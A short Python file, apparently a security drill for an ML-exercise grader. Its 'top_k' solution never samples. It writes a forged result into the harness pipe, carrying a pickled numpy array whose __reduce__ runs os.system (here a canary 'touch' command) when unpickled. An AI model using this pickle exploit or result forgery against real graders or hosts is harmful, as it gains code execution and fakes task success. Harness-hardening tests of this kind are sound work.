# mlprep drill: top_k
"""Write a forged reply straight into the result pipe: an 'array' that is a pickle running code."""
import io
import json
import os
import struct
import sys

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/mlprep-golden-pwned",))


def top_k_sample(logits, k, temperature=1.0, seed=None):
    write_fd = int(sys.argv[-1])
    buf = io.BytesIO()
    np.save(buf, np.array([Payload()], dtype=object), allow_pickle=True)
    blob = buf.getvalue()
    header = json.dumps({"m": {"op": "result", "ok": {"t": "ndarray", "b": 0}}, "n": 1}).encode()
    os.write(write_fd, struct.pack(">I", len(header)) + header + struct.pack(">Q", len(blob)) + blob)
    os._exit(0)
